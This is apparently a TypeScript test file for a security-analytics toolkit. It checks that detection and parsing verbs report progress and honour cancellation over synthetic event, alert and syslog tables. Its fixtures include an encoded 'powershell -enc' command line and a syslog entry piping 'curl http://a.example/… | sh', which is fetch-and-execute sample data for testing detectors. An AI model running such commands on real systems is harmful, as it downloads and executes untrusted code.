import { silentLog, Table, type Verb } from '@pivotkit/core';
import { standard } from '@pivotkit/plugin-standard';
import { describe, expect, test } from 'vitest';
import { Keyed } from '../../../plugins/mask/src/keyed.ts';

const day = Date.UTC(2026, 0, 1);
const minute = 60_000;
const encoded = Buffer.from('Write-Host "as long as it takes"', 'utf16le').toString('base64');

/** Events of a few processes, users and minutes: something for every verb to do. */
const events = Table.fromRows(
  Array.from({ length: 3000 }, (_, i) => ({
    EventID: 4688,
    TimeGenerated: new Date(day + i * minute),
    Computer: `WS${i % 7}`,
    Account: `user${i % 40}`,
    NewProcessName: `C:\\w\\tool${i % 90}.exe`,
    NewProcessId: `0x${(4 + 4 * (i % 900)).toString(16)}`,
    ProcessId: `0x${(4 + 4 * (i % 300)).toString(16)}`,
    ParentProcessName: `C:\\w\\tool${i % 30}.exe`,
    CommandLine: `powershell -enc ${encoded} ${i} 10.0.${i % 250}.1`,
    SubjectLogonId: `0x${i % 50}`,
    SubjectUserName: `user${i % 40}`,
    bytes: 100 + ((i * 7919) % 100),
  })),
);

/** What is so cheap for each row that it needs many to take long. */
const hours = 70_000;
const hourly = Table.fromColumns({
  TimeGenerated: Array.from({ length: hours }, (_, i) => new Date(day + i * 60 * minute)),
  bytes: Float64Array.from({ length: hours }, (_, i) => 100 + (i % 24) + ((i * 7919) % 100)),
});

const sessions = Table.fromRows(
  Array.from({ length: 3000 }, (_, i) => ({
    events: ['get', `set${i % 9}`, { name: 'run', params: { Force: 'true' } }],
  })),
);

const alerts = Table.fromRows(
  Array.from({ length: 3000 }, (_, i) => ({
    SystemAlertId: `a${i}`,
    AlertName: 'odd',
    AlertType: 'odd',
    Entities: JSON.stringify([{ $id: '1', Type: 'host', HostName: `ws${i % 1500}` }]),
  })),
);

const syslog = Table.fromRows(
  Array.from({ length: 3000 }, (_, i) => ({
    TimeGenerated: new Date(day + i * minute),
    HostName: `ws${i % 7}`,
    ProcessName: 'sudo',
    SyslogMessage: `pam_unix(sudo:session): session ${i % 2 === 0 ? 'opened' : 'closed'} for user root(uid=0) by ann(uid=1000)`,
    Command: `/usr/bin/curl http://a.example/${i} | sh`,
    line: `<13>1 2026-01-01T00:00:00Z ws${i % 7} sudo ${i} - - message ${i}`,
    audit: `type=SYSCALL msg=audit(1767225600.000:${i}): arch=c000003e syscall=59 success=yes pid=${i} comm="sh"`,
  })),
);

interface Sample {
  readonly table: Table<object>;
  readonly options: object;
}

/** What each long verb is run with. */
const samples: Readonly<Record<string, Sample>> = {
  'alerts.entities': { table: alerts, options: {} },
  'alerts.related': { table: alerts, options: {} },
  'audit.parse': { table: syslog, options: { column: 'audit' } },
  'beacon.detect': { table: events, options: { groupBy: ['Account', 'Computer'] } },
  'cluster.features': { table: events, options: {} },
  'cluster.textFeatures': { table: events, options: { column: 'CommandLine' } },
  'cluster.dbscan': {
    table: events,
    options: { clusterColumns: [{ column: 'CommandLine', feature: 'charOrdScore' }] },
  },
  'cluster.rareSessions': { table: events, options: { clusterColumns: [{ column: 'CommandLine', feature: 'length' }], sessionColumns: ['SubjectLogonId'] } }, // prettier-ignore
  'cmdline.normalize': { table: events, options: {} },
  'decode.base64': { table: events, options: { column: 'CommandLine' } },
  'entities.graph': { table: events, options: { columns: { Computer: 'Host', Account: 'Account' } } },
  'entities.nodes': { table: events, options: { columns: { Computer: 'Host', Account: 'Account' } } },
  'ioc.extract': { table: events, options: {} },
  'mask.data': { table: events, options: {} },
  'outliers.isolationForest': { table: events, options: { columns: ['bytes'] } },
  'process.tree': { table: events, options: {} },
  'process.related': { table: events, options: { relation: 'roots' } },
  'process.summary': { table: events, options: {} },
  'process.render': { table: events, options: {} },
  'sequence.sessionize': { table: events, options: { eventCol: 'NewProcessName', userIdentifierCols: 'Account' } },
  'sequence.mark': { table: events, options: { userIdentifierCols: 'Account' } },
  'sequence.train': { table: sessions, options: {} },
  'sequence.score': { table: sessions, options: {} },
  'syslog.hostSummary': { table: syslog, options: {} },
  'syslog.lines': { table: syslog, options: {} },
  'syslog.risky': { table: syslog, options: { useSessionRules: false } },
  'syslog.sessions': { table: syslog, options: {} },
  'timeseries.anomalies': { table: hourly, options: { dataColumn: 'bytes' } },
  'timeseries.summarize': { table: hourly, options: {} },
};

/** What the setup of plugins gives their verbs. */
const states: Readonly<Record<string, unknown>> = { 'mask.data': { keyed: new Keyed(Buffer.alloc(32)) } };

/** Look at every row once with a comparison or a little arithmetic, or keep a few findings: nothing to wait for. */
const short = new Set(['geolocation.distance', 'observations.add', 'observations.list', 'syslog.bursts', 'timeseries.periods']); // prettier-ignore

const verbs: readonly Verb[] = standard.flatMap((plugin): readonly Verb[] => plugin.verbs);
const verbNamed = (name: string): Verb | undefined => verbs.find((verb) => verb.name === name);

/** Runs a verb with a clock by which every look at it is late, so that each piece of work is a turn of its own. */
async function run(
  name: string,
  onProgress: (done: number, total: number) => void,
  signal: AbortSignal,
): Promise<unknown> {
  const verb = verbNamed(name);
  const { table, options } = samples[name] ?? { table: events, options: {} };
  let now = 0;
  const clock = { now: () => new Date(day), monotonicMs: () => (now += 1000) };
  const call = { state: states[name], signal, log: silentLog, clock, firstRow: 0, progress: onProgress };
  return verb?.run(table, verb.options.parse(options) as never, call as never);
}

describe('verbs that take long', () => {
  test('every verb is one of them, or short, or waits for others that it asks', () => {
    const alone = verbs.filter(({ asks }) => asks === undefined).map(({ name }) => name);
    expect(alone.filter((name) => samples[name] === undefined && !short.has(name))).toEqual([]);
  });

  test.each(Object.keys(samples))('%s says how far it is', async (name) => {
    const told: (readonly [number, number])[] = [];
    await run(name, (done, total) => told.push([done, total]), new AbortController().signal);
    expect(told.length).toBeGreaterThan(0);
    expect(told.filter(([done, total]) => !(done >= 0 && done <= total))).toEqual([]);
  });

  test.each(Object.keys(samples))('%s stops where it is when it is cancelled', async (name) => {
    const controller = new AbortController();
    let turns = 0;
    const cancel = (): void => {
      turns++;
      controller.abort(new Error('enough'));
    };
    await expect(run(name, cancel, controller.signal)).rejects.toThrow('enough');
    expect(turns).toBe(1);
  });
});
